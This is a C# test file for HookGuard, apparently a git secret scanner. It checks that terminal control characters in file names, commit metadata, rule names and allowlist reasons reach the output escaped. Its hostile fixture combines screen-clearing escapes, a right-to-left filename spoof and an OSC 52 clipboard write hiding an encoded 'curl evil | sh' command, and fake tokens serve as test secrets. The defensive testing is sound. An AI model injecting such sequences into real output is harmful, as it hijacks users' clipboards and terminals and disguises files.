using HookGuard.Tests.Support;

namespace HookGuard.Tests.EndToEnd;

/// <summary>Text from the repository never reaches the terminal with its control characters live.</summary>
[Parallelizable(ParallelScope.All)]
public class TerminalSafetySpecs
{
    // Clear screen and home, an OSC 52 clipboard write, a CSI as a C1 control, a right-to-left override.
    private const string Hostile = "\u001b[2J\u001b[H\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u009b31m\u202egnp.exe";

    private static void AssertInert(string output, bool shown = true)
    {
        Assert.That(output, Does.Not.Contain("\u001b").And.Not.Contain("\u0007").And.Not.Contain("\u009b").And.Not.Contain("\u202e"),
            "a raw control character reached the output");
        if (shown) Assert.That(output, Does.Contain("\\x1b[2J"), "shown as a visible escape");
    }

    [Test]
    public void File_names_and_matched_lines_are_escaped_in_the_blocked_report()
    {
        using var repo = TempRepo.WithHooks();
        repo.Write("evil" + Hostile + ".env", $"T={FakeSecrets.GitHubClassicToken(501)} {Hostile}\n");
        var commit = repo.Commit("hostile names");
        Assert.That(commit.ExitCode, Is.EqualTo(1), commit.Output);
        AssertInert(commit.Output);
        Assert.That(commit.Output, Does.Contain("\\u202e"));
    }

    [Test]
    public void Commit_subjects_and_authors_are_escaped_in_range_scans_and_the_audit()
    {
        using var repo = TempRepo.WithHooks();
        repo.Write("a.txt", "a\n");
        Assert.That(repo.Commit("base").ExitCode, Is.Zero);
        var baseSha = repo.Head;
        repo.Write("k.env", $"T={FakeSecrets.GitHubClassicToken(502)}\n");
        repo.Stage();
        var bypass = repo.Run("git", ["commit", "-q", "--no-verify", "-m", "subject " + Hostile],
            env: new Dictionary<string, string?> { ["GIT_AUTHOR_NAME"] = "Mallory " + Hostile });
        AssertInert(bypass.Output, shown: false);

        var range = repo.HookGuard("scan", "--range", baseSha + "..HEAD");
        Assert.That(range.ExitCode, Is.EqualTo(1), range.Output);
        AssertInert(range.Output);

        var audit = repo.HookGuard("audit");
        Assert.That(audit.Stdout, Does.Contain("subject"), audit.Output);
        AssertInert(audit.Output);
    }

    [Test]
    public void Custom_rule_names_and_allowlist_reasons_are_escaped()
    {
        using var repo = TempRepo.WithHooks();
        repo.Write(".hookguard.yaml", """
            rules:
              custom:
                - id: acme-token
                  name: "ACME \e[2J\e]52;c;Y3VybA==\a token"
                  severity: high
                  keywords: [acme_]
                  pattern: '\b(acme_[a-z0-9]{32})\b'
                  entropy: 3.0
                  remediation: { summary: "Grants ACME access.", revoke: [Revoke it.], docs: https://acme.invalid/tokens }
                  examples:
                    match: ['TOKEN=acme_q8w7e6r5t4y3u2i1o0p9a8s7d6f5g4h3']  # hookguard:allow acme-token reason="the rule's own example" reviewed-by=alice
                    noMatch: ['TOKEN=acme_short']
            """);
        Assert.That(repo.Commit("config").ExitCode, Is.Zero);
        AssertInert(repo.HookGuard("rules", "list").Output);
        AssertInert(repo.HookGuard("rules", "show", "acme-token").Output);

        repo.Write("svc.txt", "token acme_z9y8x7w6v5u4t3s2r1q0p9o8n7m6l5k4\n");
        var blocked = repo.Commit("custom");
        Assert.That(blocked.ExitCode, Is.EqualTo(1), blocked.Output);
        AssertInert(blocked.Output);

        repo.Write("svc.txt", $"token acme_z9y8x7w6v5u4t3s2r1q0p9o8n7m6l5k4  # hookguard:allow * reason=\"{Hostile}\" reviewed-by=alice\n");
        Assert.That(repo.Commit("allowed").ExitCode, Is.Zero);
        AssertInert(repo.HookGuard("allowlist", "list").Output);
    }

    [Test]
    public void Json_output_and_error_messages_carry_no_raw_control_characters()
    {
        using var repo = TempRepo.WithHooks();
        repo.Write("evil" + Hostile + ".env", $"T={FakeSecrets.GitHubClassicToken(503)} {Hostile}\n");
        repo.Stage();
        var json = repo.HookGuard("scan", "--staged", "--format", "json");
        Assert.That(json.ExitCode, Is.EqualTo(1));
        Assert.That(json.Stdout, Does.Not.Contain("\u001b").And.Not.Contain("\u009b").And.Not.Contain("\u202e").And.Not.Contain("\u0007"));
        var sarif = repo.HookGuard("scan", "--staged", "--format", "sarif");
        Assert.That(sarif.Stdout, Does.Not.Contain("\u001b").And.Not.Contain("\u009b").And.Not.Contain("\u202e").And.Not.Contain("\u0007"));

        var error = repo.HookGuard("scan", "--config", "missing" + Hostile + ".yaml");
        Assert.That(error.ExitCode, Is.EqualTo(2), error.Output);
        AssertInert(error.Output);
    }
}
